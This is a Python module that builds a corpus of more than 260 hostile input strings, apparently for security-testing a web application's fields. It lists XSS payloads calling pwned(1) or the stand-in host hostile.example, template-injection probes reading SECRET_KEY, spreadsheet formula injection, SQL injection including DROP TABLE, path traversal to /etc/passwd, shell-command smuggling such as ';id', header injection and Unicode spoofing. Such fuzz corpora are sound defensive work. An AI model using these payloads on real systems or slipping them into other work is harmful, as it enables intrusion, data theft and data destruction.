"""More than 260 hostile texts. Whatever runs in one of them calls `pwned(...)`, or asks hostile.example for something."""

_CALL = "pwned(1)"
_AWAY = "//hostile.example/x"

_MARKUP = [
    f"<script>{_CALL}</script>", f"<script src={_AWAY}></script>", f"<img src=x onerror={_CALL}>", f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>", f"<body onload={_CALL}>", f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>", f"<a href='javascript:{_CALL}'>klik</a>", f"<a href={_AWAY}>klik</a>",
    f"<form action={_AWAY}><button>kirim", f"<input autofocus onfocus={_CALL}>", f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}>", f"<audio src=x onerror={_CALL}>", f"<object data={_AWAY}>", f"<embed src={_AWAY}>",
    f"<link rel=stylesheet href={_AWAY}>", f"<style>@import '{_AWAY}';</style>", f"<div style=background:url({_AWAY})>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>", f"<base href={_AWAY}>", f"<math><mtext><script>{_CALL}</script>",
    f"<template><script>{_CALL}</script></template>", f"<marquee onstart={_CALL}>", f"<select onchange={_CALL}><option>1",
    f"<img src={_AWAY}>", f"<img srcset={_AWAY}>", f"<picture><source srcset={_AWAY}></picture>", f"<svg><use href={_AWAY}#a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x>", f"<svg><script>{_CALL}</script></svg>", "<!--", "-->", "<![CDATA[", "]]>",
    "</textarea>", "</title>", "</script>", "</style>", "</select>", "</template>", "<plaintext>", "<xmp>", "<noscript><p title='</noscript>",
    f"\"><script>{_CALL}</script>", f"'><img src=x onerror={_CALL}>", f"\" autofocus onfocus={_CALL} x=\"", f"' onmouseover={_CALL} '",
    f"`onload={_CALL}`", f"</textarea><script>{_CALL}</script>", f"</title><script>{_CALL}</script>", f"--><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<ScRiPt>{_CALL}</sCrIpT>", f"<script\x0b>{_CALL}</script>", f"<script/x>{_CALL}</script>",
    f"\x3cscript\x3e{_CALL}\x3c/script\x3e", f"＜script＞{_CALL}＜/script＞", f"%3Cscript%3E{_CALL}%3C/script%3E", f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}", f"\\u003cscript\\u003e{_CALL}", f"+ADw-script+AD4-{_CALL}", f"<img src=x:x onerror\n=\n{_CALL}>",
    f"<img/src/onerror={_CALL}>", f"<p hx-get='{_AWAY}' hx-trigger=load>", f"<p data-hx-on:load='{_CALL}'>", f"<p hx-on::load='{_CALL}'>",
    "<p id=refusal>", "<form id=once><input name=csrfmiddlewaretoken value=x>", "<a id=location>", "<img name=cookie>",
]  # fmt: skip
_ADDRESSES = [
    f"{scheme}{rest}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        " javascript:",
        "vbscript:",
        "data:text/html,",
        "data:text/html;base64,",
    )
    for rest in (_CALL, f"//%0a{_CALL}", "PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==")
] + [
    f"https:{_AWAY}",
    f"http:{_AWAY}",
    _AWAY,
    f"/\\{_AWAY[2:]}",
    "file:///etc/passwd",
    "mailto:a@hostile.example?bcc=b",
    "blob:x",
    "www.hostile.example",
]
_TEMPLATES = [
    "{{7*7}}", "{{ request }}", "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load i18n %}", "{% include '/etc/passwd' %}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('pwned(1)')()}}", "%(name)s", "%s%s%s%n", "{0.__class__}", "{name!r}", "$(id)", "`id`",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "[[${7*7}]]", "@(7*7)", "*{7*7}", "{#", "#}", "{{", "}}", "{%", "%}",
]  # fmt: skip
_CELLS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://hostile.example")',
    ";=1+1",
    ",=1+1",
    "|calc",
    '"=1+1"',
]
_STATEMENTS = [
    "'; --", "' OR '1'='1", "\" OR 1=1 --", "'; DROP TABLE reports_report; --", "1; SELECT pg_sleep(9)", "' UNION SELECT NULL --", "\\'", "\\", "%", "_",
    "%' OR '%'='", "$$", "$1", ":name", "?", "/*", "*/", "--", "0x27", "' || 'a", "'::int", "a & b | !c", "<->", "\\x00", "E'\\\\x27'", "NULL", "null", "undefined",
    "true", "NaN", "Infinity", "1e999", "-0", "0", "-1", "9223372036854775808", "1/0", "{\"$gt\": \"\"}", "[]", "{}", "[object Object]",
]  # fmt: skip
_PATHS = ["../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\con", "\\\\hostile.example\\a", "....//....//", "%2e%2e%2f", "foto.jpg/../../x", "a/b", ".htaccess",
          "nul", "con.txt", "foto.php", "foto.jpg.exe", "foto.svg", "x.html", ".", "..", "~root", "$HOME", "foto\x00.jpg", "-rf", "--version", "|id", ";id", "&id"]  # fmt: skip
_LETTERS = [
    "\u202egpj.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u200f\u200e", "\u200b\u200c\u200d", "\ufeff", "\u00ad", "\u2028", "\u2029", "\x85", "\x7f", "\x1b[31mred",
    "Z̴̡̛a̵l̶g̷o̸" * 9, "́" * 40, "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇮🇩" * 20, "شكوى عن المدرسة", "عربي <b>123</b>", "报告", "รายงาน", "ꦭꦥꦺꦴꦫꦤ꧀", "ŠČŽ", "ǅ", "ﬁ", "İıßẞ", "𝓁𝒶𝓅𝑜𝓇",
    "ｌａｐｏｒ", "lаpor (а kiril)", "\U0010ffff", "\ufffd", "\ufffe", "\ue000", "a\u0300" * 50, "‮‮‮lapor", "%00", "%0a", "%u0041", "&nbsp;", "&amp;lt;", "&#x202e;",
]  # fmt: skip
_LINES = [
    "\r\nSet-Cookie: a=b",
    "\r\nLocation: https://hostile.example",
    "a\r\nBcc: all@hostile.example",
    "\n\n<script>pwned(1)</script>",
    "a\x00b",
    "\x00",
    "\x0b\x0c",
    "\r",
    "\n" * 30,
]
_LONG = [
    "a" * 250,
    "a" * 5000,
    "<" * 900,
    "A" * 120 + "@" + "b" * 120,
    "lapor " * 400,
    "x" * 299 + "<",
    "((((" * 300,
    "\u202e" * 90,
]

CORPUS = list(
    dict.fromkeys([*_MARKUP, *_ADDRESSES, *_TEMPLATES, *_CELLS, *_STATEMENTS, *_PATHS, *_LETTERS, *_LINES, *_LONG])
)


def batches(longest: int, texts: list[str] | None = None) -> list[str]:
    """The whole corpus, as many texts as fit in one field of this length, each on a line of its own."""
    found, current = [], ""
    for text in texts or CORPUS:
        piece = text[:longest]
        if current and len(current) + len(piece) + 1 > longest:
            found.append(current)
            current = ""
        current = f"{current}\n{piece}" if current else piece
    return [*found, current]
